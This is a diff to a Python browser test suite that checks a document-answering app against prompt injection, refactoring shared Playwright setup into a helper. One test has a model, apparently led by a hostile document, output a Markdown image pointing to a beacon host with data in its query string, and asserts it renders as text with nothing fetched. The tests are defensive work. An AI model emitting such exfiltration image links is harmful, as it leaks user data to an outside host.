@@ -306,12 +306,14 @@ def _ask_about_hostile_document(
     return texts, live.evaluate_all("els => els.map(e => e.outerHTML)")
 
 
-def test_a_hostile_documents_image_and_link_stay_text(chromium, app_server, beacon, tmp_path):
-    """A quoted sentence carrying an image and a link shows them as text; nothing is fetched."""
+def _browse_hostile(chromium, url: str, host: str, tmp_path):
+    """Ask about the hostile document in a fresh Chromium, recording every request it makes.
+
+    Returns the requested URLs, the rendered Markdown texts and any live ``<img>``/``<a>`` to
+    ``host``.
+    """
     from playwright.sync_api import sync_playwright
 
-    url, _, log = app_server
-    host, hits = beacon
     requested: list[str] = []
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path=str(chromium), args=CHROMIUM_ARGS)
@@ -322,6 +324,14 @@ def test_a_hostile_documents_image_and_link_stay_text(chromium, app_server, beac
             texts, live = _ask_about_hostile_document(page, url, host, tmp_path)
         finally:
             browser.close()
+    return requested, texts, live
+
+
+def test_a_hostile_documents_image_and_link_stay_text(chromium, app_server, beacon, tmp_path):
+    """A quoted sentence carrying an image and a link shows them as text; nothing is fetched."""
+    url, _, log = app_server
+    host, hits = beacon
+    requested, texts, live = _browse_hostile(chromium, url, host, tmp_path)
 
     assert not [r for r in requested if host in r], requested
     assert hits == []
@@ -337,8 +347,6 @@ def test_a_model_told_to_leak_writes_text_not_an_image(
     chromium, fake_ollama, ollama_app_server, beacon, tmp_path
 ):
     """A model writing an exfiltration image (streamed, then verified) shows it as text."""
-    from playwright.sync_api import sync_playwright
-
     url, _, log = ollama_app_server
     host, hits = beacon
     leak = f"![x](http://{host}/beacon.png?q=floor+three+printer)"
@@ -346,16 +354,7 @@ def test_a_model_told_to_leak_writes_text_not_an_image(
         f"The printer on floor three is working again {leak} and the queue is explained [1]."
     )
     fake_ollama.token_delay = 0.02  # a visible stream: the draft is shown piece by piece
-    requested: list[str] = []
-    with sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=str(chromium), args=CHROMIUM_ARGS)
-        try:
-            page = browser.new_page(viewport={"width": 1280, "height": 1000})
-            page.set_default_timeout(30_000)
-            page.on("request", lambda request: requested.append(request.url))
-            texts, live = _ask_about_hostile_document(page, url, host, tmp_path)
-        finally:
-            browser.close()
+    requested, texts, live = _browse_hostile(chromium, url, host, tmp_path)
 
     assert fake_ollama.requests_to("/api/chat"), "the answer was written by the model"
     assert not [r for r in requested if host in r], requested
